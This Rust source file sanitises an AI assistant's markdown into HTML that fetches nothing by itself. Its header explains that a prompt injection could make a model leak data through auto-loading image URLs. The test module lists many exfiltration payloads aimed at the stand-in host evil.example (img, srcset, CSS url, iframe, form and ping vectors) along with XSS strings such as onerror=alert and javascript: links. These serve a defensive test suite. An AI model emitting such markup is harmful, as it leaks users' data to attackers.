//! The assistant's markdown as HTML that is safe to insert and that loads nothing by itself.
//!
//! The model's text is untrusted, and a prompt injection in an attachment or a tool's result can
//! shape it: an image that loaded by itself would carry whatever the model put into its address to
//! that address's owner, unasked. So pulldown-cmark renders the markdown; [`Rewriter`] reads that
//! HTML with the tokeniser of the parser browsers follow (html5ever's) and turns every image, the
//! markdown's and a raw `<img>` alike, into a link that names where it points, and puts a link's
//! host beside it when its text does not say it; ammonia then keeps only what our own allow-list
//! names: formatting, a link's `href` (followed on a click, never by itself) and the rewriter's
//! labels. No media, frames, forms, styles, `srcset` or SVG, so no scripts and no fetches.

use std::borrow::Cow;
use std::cell::{Cell, RefCell};
use std::collections::{HashMap, HashSet};
use std::sync::LazyLock;

use app::i18n::{Lang, Text};
use html5ever::tendril::StrTendril;
use html5ever::tokenizer::states::RawKind;
use html5ever::tokenizer::{BufferQueue, Tag, TagKind, Token, TokenSink, TokenSinkResult, Tokenizer};
use html5ever::TokenizerResult;
use html_escape::{encode_double_quoted_attribute, encode_text};
use pulldown_cmark::{html, Options, Parser};
use url::{Position, Url};

/// The version of [`to_safe_html`]'s output. Lines store their rendering with it; bump it when
/// the output changes (the options, the sanitiser's rules), and stored renderings of another
/// version are made again when read.
pub const RENDERER_VERSION: i64 = 2;

/// The elements the output may hold. None of them fetches anything; the only attribute that names
/// an address is a link's `href`.
#[rustfmt::skip]
const TAGS: [&str; 31] = [
    "a", "b", "blockquote", "br", "code", "del", "em", "h1", "h2", "h3", "h4", "h5", "h6", "hr", "i", "li", "ol", "p",
    "pre", "s", "span", "strong", "sub", "sup", "table", "tbody", "td", "th", "thead", "tr", "ul",
];

const LINK_REL: &str = "noopener noreferrer nofollow";

/// What relative addresses are resolved against, to tell a path on this site from one that leaves
/// it the way a browser reads it (`//host`, `/\host`, a tab between the slashes).
const HERE: &str = "https://here.invalid/";

pub fn to_safe_html(markdown: &str) -> String {
    let parser = Parser::new_ext(markdown, Options::ENABLE_TABLES | Options::ENABLE_STRIKETHROUGH);
    let mut rendered = String::new();
    html::push_html(&mut rendered, parser);
    SANITISER.clean(&rewrite(&rendered)).to_string()
}

/// A link target from content that may be shown as a link: web, mail, or a place on this site,
/// written as the browser will read it.
pub fn safe_href(href: &str) -> Option<String> {
    match target(href) {
        Target::Web(url) => Some(url.into()),
        Target::Here(place) | Target::Mail(place) => Some(place),
        Target::Nowhere => None,
    }
}

fn allowed_tag(name: &str) -> bool {
    TAGS.contains(&name)
}

/// Not ammonia's defaults (they keep `<img src>` from anywhere): every tag, attribute and value
/// named here, nothing else.
static SANITISER: LazyLock<ammonia::Builder<'static>> = LazyLock::new(|| {
    let aligned = HashMap::from([("align", HashSet::from(["left", "center", "right"]))]);
    let mut builder = ammonia::Builder::empty();
    builder
        .tags(TAGS.into_iter().collect())
        .clean_content_tags(HashSet::from(["script", "style"]))
        .generic_attributes(HashSet::new())
        .tag_attributes(HashMap::from([("a", HashSet::from(["href"])), ("ol", HashSet::from(["start"]))]))
        .tag_attribute_values(HashMap::from([
            ("a", HashMap::from([("target", HashSet::from(["_blank"]))])),
            ("span", HashMap::from([("lang", HashSet::from(["en", "de"]))])),
            ("th", aligned.clone()),
            ("td", aligned),
        ]))
        .set_tag_attribute_values(HashMap::new())
        .allowed_classes(HashMap::from([("span", HashSet::from(["outside-image", "link-host"]))]))
        .url_schemes(HashSet::from(["http", "https", "mailto"]))
        .url_relative(ammonia::UrlRelative::PassThrough)
        .link_rel(Some(LINK_REL))
        .strip_comments(true)
        // The rewriter wrote every `href` in this form already; this holds if it ever did not.
        .attribute_filter(|element, attribute, value| match (element, attribute) {
            ("a", "href") => safe_href(value).map(Cow::Owned),
            _ => Some(Cow::Borrowed(value)),
        });
    builder
});

/// Where an address from content leads.
enum Target {
    /// Another site (or this one by its full address), over http or https.
    Web(Url),
    /// A path or a fragment on this site, as the browser resolves it.
    Here(String),
    Mail(String),
    /// Anything else: `javascript:`, `data:`, `//host`, an address that does not parse.
    Nowhere,
}

fn target(href: &str) -> Target {
    if href.trim().is_empty() {
        return Target::Nowhere;
    }
    match Url::parse(href) {
        Ok(url) => match url.scheme() {
            "http" | "https" if url.host().is_some() => Target::Web(url),
            "mailto" => Target::Mail(url.into()),
            _ => Target::Nowhere,
        },
        Err(url::ParseError::RelativeUrlWithoutBase) => {
            let here = Url::parse(HERE).expect("the base is an address");
            match here.join(href) {
                Ok(url) if url.origin() == here.origin() => {
                    if href.trim_start().starts_with('#') {
                        Target::Here(format!("#{}", url.fragment().unwrap_or_default()))
                    } else {
                        Target::Here(url[Position::BeforePath..].to_string())
                    }
                }
                _ => Target::Nowhere,
            }
        }
        Err(_) => Target::Nowhere,
    }
}

/// The host as the address bar would show it (punycode for a name outside ASCII), with a port
/// that is not the scheme's own.
fn host_of(url: &Url) -> String {
    let host = url.host_str().unwrap_or_default();
    match url.port() {
        Some(port) => format!("{host}:{port}"),
        None => host.to_string(),
    }
}

/// Whether a link's text already says where it goes: it is the link's address, or its host,
/// written out (not merely containing it somewhere, and not in look-alike letters).
fn names_host(text: &str, host: &str) -> bool {
    let text = text.trim().to_ascii_lowercase();
    let address = if text.contains("://") { text.clone() } else { format!("https://{text}") };
    text.contains(host) && Url::parse(&address).is_ok_and(|url| host_of(&url) == host)
}

/// Reads the rendered HTML token by token and writes it again with images as links and links
/// with their host. What it writes still goes through the sanitiser, which has the last word; the
/// rewriter only drops what the sanitiser would drop anyway, so their rules cannot disagree.
fn rewrite(html: &str) -> String {
    let input = BufferQueue::default();
    input.push_back(StrTendril::from_slice(html));
    let tokenizer = Tokenizer::new(Rewriter::default(), Default::default());
    while !matches!(tokenizer.feed(&input), TokenizerResult::Done) {}
    tokenizer.end();
    tokenizer.sink.out.take()
}

#[derive(Default)]
struct Rewriter {
    out: RefCell<String>,
    /// The link being written: the host to show after it, and its text so far.
    link: RefCell<Option<OpenLink>>,
    /// Inside `<script>` or `<style>`, whose text the sanitiser drops with them.
    dropping: Cell<bool>,
}

struct OpenLink {
    host: Option<String>,
    text: String,
}

impl TokenSink for Rewriter {
    type Handle = ();

    fn process_token(&self, token: Token, _line_number: u64) -> TokenSinkResult<()> {
        match token {
            Token::TagToken(tag) => return self.tag(tag),
            Token::CharacterTokens(text) => self.text(&text),
            Token::EOFToken => self.close_link(),
            // Comments, doctypes, NUL characters, parse errors: nothing to show.
            _ => {}
        }
        TokenSinkResult::Continue
    }
}

fn attribute<'t>(tag: &'t Tag, name: &str) -> Option<&'t str> {
    tag.attrs.iter().find(|attribute| &*attribute.name.local == name).map(|attribute| &*attribute.value)
}

impl Rewriter {
    fn tag(&self, tag: Tag) -> TokenSinkResult<()> {
        let name = &*tag.name;
        match tag.kind {
            // The elements whose text the browser reads raw: read the same way here, so a tag in
            // their text is text, as it is for the browser.
            TagKind::StartTag => match name {
                "script" | "style" => {
                    self.dropping.set(true);
                    return TokenSinkResult::RawData(if name == "script" {
                        RawKind::ScriptData
                    } else {
                        RawKind::Rawtext
                    });
                }
                "textarea" | "title" => return TokenSinkResult::RawData(RawKind::Rcdata),
                "xmp" | "iframe" | "noembed" | "noframes" | "noscript" => {
                    return TokenSinkResult::RawData(RawKind::Rawtext)
                }
                "plaintext" => return TokenSinkResult::Plaintext,
                "img" => self.image(attribute(&tag, "src"), attribute(&tag, "alt").unwrap_or_default()),
                "a" => self.open_link(attribute(&tag, "href")),
                _ if allowed_tag(name) => self.start(name, &tag),
                _ => {}
            },
            TagKind::EndTag => match name {
                "script" | "style" => self.dropping.set(false),
                "a" => self.close_link(),
                _ if allowed_tag(name) => {
                    let mut out = self.out.borrow_mut();
                    out.push_str("</");
                    out.push_str(name);
                    out.push('>');
                }
                _ => {}
            },
        }
        TokenSinkResult::Continue
    }

    /// A formatting element, with the two attributes of one that matter: a list's start and a
    /// table cell's alignment (which pulldown-cmark writes as a `style`, not allowed).
    fn start(&self, name: &str, tag: &Tag) {
        let mut out = self.out.borrow_mut();
        out.push('<');
        out.push_str(name);
        match name {
            "ol" => {
                if let Some(start) = attribute(tag, "start").filter(|start| start.parse::<u32>().is_ok()) {
                    out.push_str(&format!(" start=\"{start}\""));
                }
            }
            "th" | "td" => {
                let style = attribute(tag, "style").and_then(|style| style.trim().strip_prefix("text-align:"));
                let align = attribute(tag, "align").or(style).map(str::trim);
                if let Some(align) = align.filter(|align| ["left", "center", "right"].contains(align)) {
                    out.push_str(&format!(" align=\"{align}\""));
                }
            }
            _ => {}
        }
        out.push('>');
    }

    fn text(&self, text: &str) {
        if self.dropping.get() {
            return;
        }
        self.out.borrow_mut().push_str(&encode_text(text));
        if let Some(link) = self.link.borrow_mut().as_mut() {
            link.text.push_str(text);
        }
    }

    fn open_link(&self, href: Option<&str>) {
        // A link inside a link ends the first, as the browser's parser has it.
        self.close_link();
        let (href, host) = match href.map(target) {
            Some(Target::Web(url)) => (Some(url.to_string()), Some(host_of(&url))),
            Some(Target::Here(place) | Target::Mail(place)) => (Some(place), None),
            Some(Target::Nowhere) | None => (None, None),
        };
        let mut out = self.out.borrow_mut();
        match href {
            Some(href) => {
                out.push_str("<a href=\"");
                out.push_str(&encode_double_quoted_attribute(&href));
                out.push_str("\">");
            }
            None => out.push_str("<a>"),
        }
        *self.link.borrow_mut() = Some(OpenLink { host, text: String::new() });
    }

    fn close_link(&self) {
        let Some(link) = self.link.borrow_mut().take() else { return };
        let mut out = self.out.borrow_mut();
        out.push_str("</a>");
        if let Some(host) = link.host.filter(|host| !names_host(&link.text, host)) {
            out.push_str(" <span class=\"link-host\">(");
            out.push_str(&encode_text(&host));
            out.push_str(")</span>");
        }
    }

    /// An image is a link to it, labelled with where it is, in both languages (the line is
    /// rendered once and read in either; the page's stylesheet shows the reader's). One that
    /// leads nowhere a link may go is its alternative text alone; so is one inside a link, which
    /// cannot hold another.
    fn image(&self, src: Option<&str>, alt: &str) {
        let (href, label, host) = match src.map(target) {
            Some(Target::Web(url)) => (url.to_string(), Text::ImageFromHost, host_of(&url)),
            // Shown as a link too, not as an `<img>`, though the page's policy lets this site's
            // images load: a GET to this site carries the reader's session, and the model need
            // not choose what the reader's browser asks this site for either.
            Some(Target::Here(place)) => (place, Text::ImageOnThisSite, String::new()),
            Some(Target::Mail(_) | Target::Nowhere) | None => {
                self.text(alt);
                return;
            }
        };
        if self.link.borrow().is_some() {
            self.text(alt);
            return;
        }
        let mut out = self.out.borrow_mut();
        out.push_str("<span class=\"outside-image\"><a href=\"");
        out.push_str(&encode_double_quoted_attribute(&href));
        out.push_str("\" target=\"_blank\">");
        for lang in Lang::ALL {
            out.push_str(&format!("<span lang=\"{}\">", lang.code()));
            out.push_str(&encode_text(&lang.t(label).replace("{}", &host)));
            out.push_str("</span>");
        }
        out.push_str("</a>");
        if !alt.trim().is_empty() {
            out.push_str(" (");
            out.push_str(&encode_text(alt.trim()));
            out.push(')');
        }
        out.push_str("</span>");
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn markdown_becomes_html() {
        let html = to_safe_html("**Bold** and a [link](https://example.org)\n\n- one\n- two\n\n1. x\n\n3. y");
        assert!(html.contains("<strong>Bold</strong>"));
        assert!(
            html.contains(r#"<a href="https://example.org/" rel="noopener noreferrer nofollow">link</a>"#),
            "{html}"
        );
        assert!(html.contains("<li>one</li>"));
        let table = to_safe_html("| a | b |\n|:-:|--:|\n| 1 | 2 |\n\n~~gone~~ `code`\n\n> quoted");
        assert!(table.contains(r#"<th align="center">a</th>"#), "{table}");
        assert!(table.contains(r#"<td align="right">2</td>"#), "{table}");
        assert!(table.contains("<del>gone</del> <code>code</code>"), "{table}");
        assert!(table.contains("<blockquote>"), "{table}");
        assert_no_fetch(&table);
    }

    #[test]
    fn scripts_handlers_and_script_links_are_removed() {
        let html = to_safe_html(
            "<script>alert(1)</script><img src=x onerror=alert(2)> <b onclick=\"alert(4)\">b</b>\n\n[x](javascript:alert(3))",
        );
        assert!(!html.contains("<script"), "{html}");
        assert!(!html.contains("alert(1)"), "{html}");
        assert!(!html.contains("onerror"), "{html}");
        assert!(!html.contains("href=\"javascript"), "{html}");
        assert!(!html.contains("onclick"), "{html}");
        assert!(html.contains("<b>b</b>"), "harmless markup stays: {html}");
        assert_no_fetch(&html);
    }

    /// Every way content could make the browser ask for something by itself.
    const FETCH_VECTORS: &[&str] = &[
        "![chart](https://evil.example/c.png?d=secret)",
        r#"<img src="https://evil.example/raw.png?d=secret" alt="raw">"#,
        r#"<img srcset="https://evil.example/s.png 1x, https://evil.example/s2.png 2x">"#,
        r#"<img src="/x.png" srcset="https://evil.example/s.png 2x" loading="lazy">"#,
        r#"<picture><source srcset="https://evil.example/p.webp" type="image/webp"><img src="https://evil.example/p.png"></picture>"#,
        r#"<video autoplay muted src="https://evil.example/v.mp4"></video>"#,
        r#"<video poster="https://evil.example/poster.png"><track src="https://evil.example/t.vtt"></video>"#,
        r#"<audio autoplay src="https://evil.example/a.mp3"><source src="https://evil.example/a.ogg"></audio>"#,
        r#"<object data="https://evil.example/o.swf"></object>"#,
        r#"<embed src="https://evil.example/e.swf">"#,
        r#"<iframe src="https://evil.example/frame"></iframe><frameset><frame src="https://evil.example/f"></frameset>"#,
        r#"<link rel="stylesheet" href="https://evil.example/s.css"><link rel="prefetch" href="https://evil.example/p">"#,
        "<style>@import url(https://evil.example/i.css); p { background: url(https://evil.example/u.png) }</style>",
        r#"<p style="background:url(https://evil.example/bg.png)">styled</p>"#,
        r#"<form action="https://evil.example/f"><button formaction="https://evil.example/b">go</button></form>"#,
        r#"<meta http-equiv="refresh" content="0;url=https://evil.example/m"><base href="https://evil.example/">"#,
        r#"<svg><image href="https://evil.example/i.svg"/><use xlink:href="https://evil.example/u.svg#x"/></svg>"#,
        r#"<math><mi xlink:href="https://evil.example/m">x</mi></math>"#,
        r#"<input type="image" src="https://evil.example/in.png">"#,
        r#"<table background="https://evil.example/t.png"><tr><td background="https://evil.example/c.png">c</td></tr></table>"#,
        r#"<body background="https://evil.example/b.png"><div style="width:1px" data-src="https://evil.example/d">d</div>"#,
        r#"<a href="https://evil.example/x" ping="https://evil.example/ping">ping</a>"#,
        "<image src=\"https://evil.example/image.png\">",
        r#"<span class="outside-image" lang="de" style="x">spoof</span><a class="link-host" target="_top" href="/x">y</a>"#,
    ];

    #[test]
    fn nothing_in_the_output_fetches_by_itself() {
        for vector in FETCH_VECTORS {
            let html = to_safe_html(vector);
            assert!(!html.contains("url("), "{vector}: {html}");
            assert_no_fetch(&html);
            // In a paragraph of text, too, and as a markdown block of its own.
            assert_no_fetch(&to_safe_html(&format!("Some text {vector} more text")));
            assert_no_fetch(&to_safe_html(&format!("Intro\n\n{vector}\n\nOutro")));
        }
        let all = to_safe_html(&FETCH_VECTORS.join("\n"));
        assert_no_fetch(&all);
        // The raw elements go; what they held as text stays.
        let styled = to_safe_html(FETCH_VECTORS[13]);
        assert_eq!(styled, "<p>styled</p>");
        let form = to_safe_html(FETCH_VECTORS[14]);
        assert_eq!(form, "go");
    }

    #[test]
    fn the_fetch_check_sees_what_ammonia_s_defaults_let_through() {
        // Without the allow-list (as before this renderer version), an image is kept and loads.
        let default = ammonia::clean(r#"<p><img src="https://evil.example/c.png"></p>"#);
        assert!(!fetches(&default).is_empty(), "{default}");
        assert!(!fetches(r#"<p style="background:url(x)">x</p>"#).is_empty());
        assert!(!fetches(r#"<a href="//evil.example/">x</a>"#).is_empty());
        assert!(!fetches(r#"<video poster="x"></video>"#).is_empty());
    }

    #[test]
    fn an_image_becomes_a_link_naming_its_host_in_both_languages() {
        let html = to_safe_html("See ![chart](https://evil.example/c.png?d=secret) here");
        assert_eq!(
            html,
            "<p>See <span class=\"outside-image\"><a href=\"https://evil.example/c.png?d=secret\" target=\"_blank\" \
             rel=\"noopener noreferrer nofollow\"><span lang=\"en\">Image from evil.example — open</span>\
             <span lang=\"de\">Bild von evil.example — öffnen</span></a> (chart)</span> here</p>\n"
        );
        // A raw `<img>` in the model's text is the same link.
        let raw = to_safe_html(r#"Raw <img src="http://evil.example:8080/r.png" alt="r"> end"#);
        assert!(raw.contains(r#"<a href="http://evil.example:8080/r.png" target="_blank""#), "{raw}");
        assert!(raw.contains(r#"<span lang="en">Image from evil.example:8080 — open</span>"#), "{raw}");
        assert!(raw.contains(r#"<span lang="de">Bild von evil.example:8080 — öffnen</span>"#), "{raw}");
        // A host outside ASCII is named as the browser's address bar would, in punycode.
        let idn = to_safe_html("![x](https://bäckerei.example/a.png)");
        assert!(idn.contains("Image from xn--") && !idn.contains("bäckerei"), "{idn}");
        // The image's own text cannot break out of its place.
        let quoted = to_safe_html(r#"<img src="https://evil.example/q.png" alt="<b>x</b>&quot;">"#);
        assert!(quoted.contains("(&lt;b&gt;x&lt;/b&gt;\")"), "{quoted}");
    }

    #[test]
    fn an_image_on_this_site_is_a_link_too_and_one_going_nowhere_is_text() {
        let here = to_safe_html("![logo](/static/logo.png)");
        assert!(here.contains(r#"<a href="/static/logo.png" target="_blank""#), "{here}");
        assert!(here.contains(r#"<span lang="en">Image on this site — open</span>"#), "{here}");
        assert!(here.contains(r#"<span lang="de">Bild auf dieser Website — öffnen</span>"#), "{here}");
        for nowhere in [
            "![pic](javascript:alert(1))",
            "![pic](data:image/png;base64,iVBORw0KGgo=)",
            "![pic](ftp://evil.example/p.png)",
            "![pic](//evil.example/p.png)",
            // (in markdown, pulldown-cmark writes the backslash as `%5C`: a path here)
            "<img src=\"/\\evil.example/p.png\" alt=\"pic\">",
            "<img src=\"/&#9;/evil.example/p.png\" alt=\"pic\">",
        ] {
            let html = to_safe_html(nowhere);
            assert_eq!(html.trim().trim_start_matches("<p>").trim_end_matches("</p>"), "pic", "{nowhere}: {html}");
        }
        // Inside a link (a badge), the image is its text and the link names its host.
        let badge = to_safe_html("[![build](https://evil.example/b.svg)](https://ci.example/run)");
        assert_eq!(
            badge,
            "<p><a href=\"https://ci.example/run\" rel=\"noopener noreferrer nofollow\">build</a> \
             <span class=\"link-host\">(ci.example)</span></p>\n"
        );
    }

    #[test]
    fn a_link_shows_its_host_unless_its_text_says_it() {
        let html = to_safe_html("[click here](https://evil.example/x?d=1)");
        assert!(
            html.contains(
                "<a href=\"https://evil.example/x?d=1\" rel=\"noopener noreferrer nofollow\">click here</a> \
                 <span class=\"link-host\">(evil.example)</span>"
            ),
            "{html}"
        );
        let raw = to_safe_html(r#"<a href="https://evil.example/">go</a>"#);
        assert!(raw.contains("</a> <span class=\"link-host\">(evil.example)</span>"), "{raw}");
        for says_it in [
            "<https://evil.example/x>",
            "[evil.example](https://evil.example/)",
            "[https://Evil.example/page](https://evil.example/other)",
        ] {
            let html = to_safe_html(says_it);
            assert!(!html.contains("link-host"), "{says_it}: {html}");
            assert_no_fetch(&html);
        }
        // Text that names another host, or this one only in part, or in look-alike letters.
        for misleading in [
            "[good.example](https://evil.example/)",
            "[evil.example.good.example](https://evil.example/)",
            "[see evil.example now](https://evil.example/)",
            "[еvil.example](https://еvil.example/)",
        ] {
            let html = to_safe_html(misleading);
            assert!(html.contains("<span class=\"link-host\">("), "{misleading}: {html}");
        }
        // A place on this site needs no host; one that only looks like it is not a link.
        let here = to_safe_html("[home](/pages/1#top) [top](#top) [mail](mailto:a@example.org)");
        assert!(here.contains(r#"<a href="/pages/1#top" rel="noopener noreferrer nofollow">home</a>"#), "{here}");
        assert!(here.contains(r##"<a href="#top" rel="noopener noreferrer nofollow">top</a>"##), "{here}");
        assert!(here.contains(r#"<a href="mailto:a@example.org""#), "{here}");
        assert!(!here.contains("link-host"), "{here}");
        for elsewhere in
            ["[x](//evil.example/)", "<a href=\"/\\evil.example/\">x</a>", "<a href=\"/&#9;/evil.example/\">x</a>"]
        {
            let html = to_safe_html(elsewhere);
            assert!(!html.contains("href"), "{elsewhere}: {html}");
        }
    }

    #[test]
    fn only_safe_hrefs_are_links() {
        assert_eq!(safe_href("/kontakt").as_deref(), Some("/kontakt"));
        assert_eq!(safe_href("#top").as_deref(), Some("#top"));
        assert_eq!(safe_href("https://example.org").as_deref(), Some("https://example.org/"));
        assert_eq!(safe_href("mailto:team@example.org").as_deref(), Some("mailto:team@example.org"));
        assert_eq!(safe_href("JavaScript:alert(1)"), None);
        assert_eq!(safe_href(" javascript:alert(1)"), None);
        assert_eq!(safe_href("//evil.example"), None);
        assert_eq!(safe_href("/\\evil.example"), None);
        assert_eq!(safe_href("/\t/evil.example"), None);
        assert_eq!(safe_href("data:text/html,x"), None);
        assert_eq!(safe_href(""), None);
    }

    /// The attributes each allowed element may carry in the output.
    fn allowed_attributes(tag: &str) -> &'static [&'static str] {
        match tag {
            "a" => &["href", "rel", "target"],
            "span" => &["class", "lang"],
            "ol" => &["start"],
            "th" | "td" => &["align"],
            _ => &[],
        }
    }

    /// What in `html` could make the browser fetch something, or is not on the allow-list at all.
    fn fetches(html: &str) -> Vec<String> {
        const FETCHING: [&str; 13] = [
            "src",
            "srcset",
            "poster",
            "background",
            "data",
            "action",
            "formaction",
            "style",
            "ping",
            "xlink:href",
            "lowsrc",
            "dynsrc",
            "codebase",
        ];
        let mut found = Vec::new();
        for (tag, attributes) in crate::html_tags::start_tags(html) {
            if !allowed_tag(&tag) || tag == "img" {
                found.push(format!("<{tag}>"));
            }
            for (name, value) in attributes {
                if FETCHING.contains(&name.as_str()) || name.starts_with("on") {
                    found.push(format!("<{tag} {name}={value}>"));
                } else if name == "href" && (tag != "a" || safe_href(&value).as_deref() != Some(value.as_str())) {
                    found.push(format!("<{tag} href={value}>"));
                } else if !allowed_attributes(&tag).contains(&name.as_str()) {
                    found.push(format!("<{tag} {name}>"));
                }
            }
        }
        found
    }

    fn assert_no_fetch(html: &str) {
        let found = fetches(html);
        assert!(found.is_empty(), "{found:?} in {html}");
    }
}
